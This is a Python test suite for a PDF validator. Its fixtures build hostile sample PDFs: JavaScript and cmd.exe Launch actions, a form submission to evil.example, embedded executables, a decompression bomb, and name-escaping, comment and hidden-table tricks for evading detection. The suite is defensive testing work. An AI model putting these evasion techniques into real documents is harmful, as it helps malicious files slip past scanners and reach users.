"""PDFs: what opens is accepted, what acts is refused wherever it hides."""

import time
import zlib

import made_files as made
import pikepdf
import pytest

from validate import pdf
from validate.findings import FileFault

JS = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"
LAUNCH = b"<</S/Launch/F(cmd.exe)>>"
GO = b"<</S/GoTo/D[3 0 R/Fit]>>"
FORM = b"<</Type/Catalog/Pages 2 0 R/AcroForm<</Fields[]/XFA 6 0 R>>>>"
OUTPUT = b"<</Type/OutputIntent/S/GTS_PDFA1/OutputConditionIdentifier(sRGB)>>"
META = b"<x:xmpmeta xmlns:x='adobe:ns:meta/'><pdfaid:part>2</pdfaid:part></x:xmpmeta>"


def filespec(name: bytes, *, holder: int = 7, types: bytes = b"/Type/Filespec") -> bytes:
    return b"<<%s/F %s/UF %s/EF<</F %d 0 R>>>>" % (types, name, name, holder)


def attached(name: bytes, content: bytes, *, types: bytes = b"/Type/Filespec") -> bytes:
    return made.pdf(
        catalog=b"/Names<</EmbeddedFiles<</Names[(a)6 0 R]>>>>",
        more={6: filespec(name, types=types), 7: made.packed_stream(content, b"/Type/EmbeddedFile" if types else b"")},
    )


def xfa(script: bytes) -> bytes:
    return made.pdf(catalog=b"/AcroForm<</Fields[]/XFA[(template)6 0 R]>>", more={6: made.packed_stream(script)})


def cut(data: bytes, percent: int) -> bytes:
    return data[: len(data) * percent // 100]


def without_table(data: bytes) -> bytes:
    return data[: data.rindex(b"xref\n0 ")]


BARE = made.pdf()
SEVERAL = made.pages_pdf(4)

SOUND = {
    "one page": BARE,
    "several pages": SEVERAL,
    "compressed objects": made.compressed_pdf(),
    "compressed objects without their type": made.compressed_pdf(holder_type=b""),
    "linearized": made.saved(SEVERAL, linearize=True),
    "linearized and compressed": made.saved(SEVERAL, linearize=True, object_stream_mode=pikepdf.ObjectStreamMode.generate),
    "incremental update": made.updated_pdf(BARE, {4: made.stream(b"BT ET")}),
    "updated three times": made.updated_pdf(made.updated_pdf(made.updated_pdf(BARE, {4: made.stream(b"q Q")}), {4: made.stream(b"Q")}), {5: b"<<>>"}),
    "script removed by an update": made.updated_pdf(made.pdf(catalog=b"/OpenAction 6 0 R", more={6: JS}), {6: GO, 1: b"<</Type/Catalog/Pages 2 0 R>>"}),
    "hybrid table": made.hybrid_pdf(GO),
    "PDF/A": made.pdf(catalog=b"/Metadata 6 0 R/OutputIntents[" + OUTPUT + b"]", more={6: made.stream(META, b"/Type/Metadata/Subtype/XML")}),
    "opens at a page": made.pdf(catalog=b"/OpenAction " + GO),
    "opens at a page, array": made.pdf(catalog=b"/OpenAction[3 0 R/FitH 800]"),
    "opens at a page, compressed": made.compressed_pdf(catalog=b"/OpenAction " + GO),
    "web link": made.pdf(page=b"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(https://desk.example)>>>>]"),
    "form without scripts": made.pdf(catalog=b"/AcroForm<</Fields[6 0 R]>>", more={6: b"<</FT/Tx/T(fio)/V(x)>>"}),
    "XFA without scripts": xfa(b"<template><subform/></template>"),
    "speaks of /JavaScript in a string": made.pdf(more={6: b"<</Title(The /S /JavaScript entry \\(and /JS\\))/Author(/Launch)>>"}),
    "empty JavaScript tree": made.pdf(catalog=b"/Names<</JavaScript<</Names[]>>>>"),
    "font subset named JSABC": made.pdf(more={6: b"<</Type/Font/BaseFont/JSABCD+Arial/JSX 1>>"}),
    "name with Cyrillic escapes": made.pdf(more={6: b"<</Type/Font/BaseFont/#D0#9F#D1#80>>"}),
    "embedded text": attached(b"(note.txt)", b"hello"),
    "embedded XML without a name": attached(b"()", b"<?xml version='1.0'?>"),
    "owner password only": made.encrypted_pdf(BARE, user="", owner="secret"),
    "junk before the header": b"\r\n\r\njunk from a server\n" + BARE,
    "blank lines behind the end": BARE + b"\r\n" * 600,
    "no table": without_table(BARE),
    "wrong startxref": BARE.replace(b"startxref\n", b"startxref\n9"),
    "line ends rewritten": BARE.replace(b"\n", b"\r\n"),
    "cut in the table": SEVERAL[: SEVERAL.rindex(b"trailer") - 30],
    "cut in the last line": BARE[:-4],
    "version nobody knows": BARE.replace(b"%PDF-1.7", b"%PDF-2.9"),
}  # fmt: skip

ACTIVE = {
    "script as OpenAction": made.pdf(catalog=b"/OpenAction " + JS),
    "script as OpenAction, by reference": made.pdf(catalog=b"/OpenAction 6 0 R", more={6: JS}),
    "script on closing": made.pdf(catalog=b"/AA<</WC 6 0 R>>", more={6: JS}),
    "script on turning to a page": made.pdf(page=b"/AA<</O " + JS + b">>"),
    "script in the tree of names": made.pdf(catalog=b"/Names<</JavaScript<</Names[(a)6 0 R]>>>>", more={6: JS}),
    "script in an annotation": made.pdf(page=b"/Annots[6 0 R]", more={6: b"<</Subtype/Link/Rect[0 0 9 9]/A 7 0 R>>", 7: JS}),
    "script in a field": made.pdf(catalog=b"/AcroForm<</Fields[6 0 R]>>", more={6: b"<</FT/Tx/T(a)/AA<</K " + JS + b">>>>"}),
    "script in an outline": made.pdf(catalog=b"/Outlines 6 0 R", more={6: b"<</First 7 0 R/Last 7 0 R>>", 7: b"<</Title(a)/Parent 6 0 R/A " + JS + b">>"}),
    "script after going to a page": made.pdf(catalog=b"/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next " + JS + b">>"),
    "script after thirty steps": made.pdf(catalog=b"/OpenAction" + b"<</S/GoTo/D[3 0 R/Fit]/Next" * 30 + JS + b">>" * 30),
    "script after three hundred steps": made.pdf(catalog=b"/OpenAction" + b"<</S/GoTo/Next" * 300 + JS + b">>" * 300),
    "script as a stream": made.pdf(catalog=b"/OpenAction 6 0 R", more={6: b"<</S/JavaScript/JS 7 0 R>>", 7: made.packed_stream(b"app.alert(1)")}),
    "script as hex": made.pdf(catalog=b"/OpenAction<</S/JavaScript/JS<6170702E>>>"),
    "script in a rendition": made.pdf(catalog=b"/OpenAction<</S/Rendition/OP 0/JS(app.alert\\(1\\))>>"),
    "script in an object stream": made.compressed_pdf(catalog=b"/OpenAction 6 0 R", more={6: JS}),
    "script in an object stream without its type": made.compressed_pdf(catalog=b"/OpenAction 6 0 R", more={6: JS}, holder_type=b""),
    "escaped name in an object stream": made.compressed_pdf(catalog=b"/OpenAction 6 0 R", more={6: b"<</S/J#61vaScript/#4A#53(a)>>"}),
    "escaped names": made.pdf(catalog=b"/OpenAction<</#53/Java#53cript/#4a#53(app.alert)>>"),
    "all letters escaped": made.pdf(catalog=b"/OpenAction<</S/#4c#61#75#6e#63#68/F(a)>>"),
    "names torn by comments": made.pdf(catalog=b"/OpenAction<</S%x\n/JavaScript%y\n/JS%z\n(a)>>"),
    "hidden part of a hybrid, free in the table": made.hybrid_pdf(JS),
    "hidden part of a hybrid, escaped": made.hybrid_pdf(b"<</S/#4aavaScript/J#53(a)>>"),
    "added by an update": made.updated_pdf(BARE, {1: b"<</Type/Catalog/Pages 2 0 R/OpenAction 9 0 R>>", 9: JS}),
    "linearized script": made.saved(made.pdf(catalog=b"/OpenAction " + JS), linearize=True),
    "behind an owner password": made.encrypted_pdf(made.pdf(catalog=b"/OpenAction " + JS), user="", owner="secret"),
    "no table, script": without_table(made.pdf(catalog=b"/OpenAction " + JS)),
    "launch": made.pdf(catalog=b"/OpenAction " + LAUNCH),
    "launch in an annotation": made.pdf(page=b"/Annots[<</Subtype/Link/Rect[0 0 9 9]/A " + LAUNCH + b">>]"),
    "launch in an object stream": made.compressed_pdf(page=b"/Annots[<</Subtype/Link/Rect[0 0 9 9]/A " + LAUNCH + b">>]"),
    "submits a form": made.pdf(page=b"/Annots[<</Subtype/Widget/A<</S/SubmitForm/F(https://evil.example)>>>>]"),
    "imports data": made.pdf(catalog=b"/OpenAction<</S/ImportData/F(a.fdf)>>"),
    "script in an XFA form": xfa(b"<template><event><script contentType='application/x-javascript'>a</script></event></template>"),
    "script in an XFA form of UTF-16": xfa("<xfa:script>a</xfa:script>".encode("utf-16")),
    "script in a 3D picture": made.pdf(more={6: made.stream(b"U3D", b"/Type/3D/OnInstantiate 7 0 R"), 7: made.stream(b"a")}),
    "embedded program": attached(b"(setup.exe)", made.program()),
    "embedded program under another name": attached(b"(note.txt)", made.program()),
    "embedded program without types": attached(b"(setup.exe)", b"any", types=b""),
    "embedded script": attached(b"(go.js)", b"WScript.Echo(1)"),
    "embedded shortcut named in UTF-16": attached(b"<FEFF0061002E006C006E006B>", b"x"),
    "embedded in an annotation": made.pdf(page=b"/Annots[<</Subtype/FileAttachment/FS " + filespec(b"(a.scr)") + b">>]", more={7: made.stream(b"x", b"/Type/EmbeddedFile")}),
}  # fmt: skip

CORRUPT = {
    "header and noise": b"%PDF-1.4\n" + zlib.compress(bytes(range(256)) * 100) * 30 + b"%%EOF\n",
    "header alone": b"%PDF-1.7\n",
    "header and end": b"%PDF-1.7\n%%EOF\n",
    "header and text": b"%PDF-1.4\nThis obj is no document, but text.\n%%EOF",
    "header and zeros": b"%PDF-1.4\n" + bytes(100_000),
    "no page": made.written({1: b"<</Type/Catalog/Pages 2 0 R>>", 2: b"<</Type/Pages/Kids[]/Count 0>>"}),
    "no catalog": made.written({2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>", 3: b"<</Type/Page>>"}),
    "pages are a number": made.written({1: b"<</Type/Catalog/Pages 7>>"}),
    "tree of pages in a ring": made.written({1: b"<</Type/Catalog/Pages 2 0 R>>", 2: b"<</Type/Pages/Kids[2 0 R]/Count 1>>"}),
    "cut before the pages": SEVERAL[:150],
    "cut in half": SEVERAL[: len(SEVERAL) // 2],
    "cut in the last page": SEVERAL[: SEVERAL.rindex(b"endstream") - 20],
    "cut in the only page": BARE[: BARE.index(b"endstream") - 5],
    "linearized, cut in half": cut(made.saved(SEVERAL, linearize=True), 50),
    "compressed, cut": cut(made.compressed_pdf(), 66),
    "promises more pages than there are": made.pdf().replace(b"/Count 1", b"/Count 3"),
    "nested without end": made.pdf(page=b"/Extra" + b"[" * 200_000),
}  # fmt: skip

ENCRYPTED = {
    "user password": made.encrypted_pdf(BARE, user="secret", owner="secret"),
    "user password, AES-128": made.saved(BARE, encryption=pikepdf.Encryption(user="u", owner="o", R=4)),
    "user password, RC4": made.saved(BARE, encryption=pikepdf.Encryption(user="u", owner="o", R=3, aes=False, metadata=False)),
    "user password, script within": made.encrypted_pdf(made.pdf(catalog=b"/OpenAction " + JS), user="u", owner="o"),
    "certificates": made.written(
        {**made.page_objects(), 6: b"<</Filter/Adobe.PubSec/SubFilter/adbe.pkcs7.s5/V 4/Length 128/Recipients[(a)]>>"},
        trailer=b"/Encrypt 6 0 R/ID[<00><00>]",
    ),
}  # fmt: skip


@pytest.mark.parametrize("data", SOUND.values(), ids=SOUND)
def test_a_pdf_that_can_be_shown_is_accepted(data: bytes) -> None:
    assert pdf.fault(data) is None


@pytest.mark.parametrize("data", ACTIVE.values(), ids=ACTIVE)
def test_a_pdf_that_acts_is_refused_wherever_it_hides(data: bytes) -> None:
    assert pdf.fault(data) is FileFault.ACTIVE_CONTENT


@pytest.mark.parametrize("data", CORRUPT.values(), ids=CORRUPT)
def test_a_pdf_whose_pages_are_lost_is_corrupt(data: bytes) -> None:
    assert pdf.fault(data) is FileFault.CORRUPT


@pytest.mark.parametrize("data", ENCRYPTED.values(), ids=ENCRYPTED)
def test_a_pdf_that_needs_a_password_is_encrypted(data: bytes) -> None:
    assert pdf.fault(data) is FileFault.ENCRYPTED


@pytest.mark.parametrize("place", range(0, SEVERAL.rindex(b"endstream"), 41))
def test_wherever_a_pdf_is_cut_it_is_not_accepted_with_fewer_pages(place: int) -> None:
    assert pdf.fault(SEVERAL[:place]) is FileFault.CORRUPT


def test_objects_that_unpack_without_measure_are_corrupt() -> None:
    bomb = made.compressed_pdf(blanks=200_000_000)
    assert len(bomb) < 250_000
    assert pdf.fault(bomb) is FileFault.CORRUPT


def test_many_streams_that_unpack_to_much_together_are_corrupt() -> None:
    parts = {n: made.packed_stream(b"x" * 10_000_000) for n in range(10, 20)}
    specs = {n + 10: filespec(b"(a.txt)", holder=n) for n in parts}
    assert pdf.fault(made.pdf(more={**parts, **specs})) is FileFault.CORRUPT


def test_a_document_of_more_objects_than_are_looked_at_is_not_cleared() -> None:
    many = dict.fromkeys(range(6, pdf.OBJECTS_MOST + 7), b"<</A 1>>")
    assert pdf.fault(made.pdf(more=many)) is None
    assert pdf.fault(made.pdf(more={**many, 7: b"(/Launch )"})) is FileFault.ACTIVE_CONTENT


def test_a_scan_of_half_a_megabyte_is_looked_at_in_a_few_milliseconds() -> None:
    scan = made.pdf(more={6: made.stream(zlib.compress(bytes(range(256)), 0) * 2000, b"/Type/XObject/Subtype/Image")})
    assert len(scan) > 500_000
    pdf.fault(scan)
    times = []
    for _ in range(5):
        began = time.process_time()
        pdf.fault(scan)
        times.append(time.process_time() - began)
    assert min(times) < 0.03  # byte by byte it takes ten times as long


def test_what_qpdf_says_of_broken_files_is_not_logged(caplog: pytest.LogCaptureFixture) -> None:
    for data in CORRUPT.values():
        pdf.fault(data)
    assert caplog.records == []
